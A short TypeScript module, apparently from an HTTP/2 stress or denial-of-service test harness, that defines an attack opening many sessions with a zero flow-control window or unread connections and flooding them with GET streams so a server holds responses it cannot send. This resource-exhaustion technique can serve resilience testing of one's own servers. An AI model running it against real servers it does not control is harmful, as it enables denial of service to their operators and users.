import { type Attack, openSession, pourStreams, repeat } from './caller.ts'
import { open, request } from './frames.ts'

const sessions = 20
const batch = 50

/** Requests whose responses cannot be sent: a window of 0, or a connection that is never read. */
export function holdResponses(path: string, how: { window?: number; reads?: boolean }): Attack {
  const block = request('GET', path)
  return (caller) =>
    repeat(caller, sessions, 250, async () => {
      const socket = await openSession(caller, how)
      if (socket)
        await pourStreams(caller, socket, 'requests', batch, (stream) => open(stream, block))
    })
}
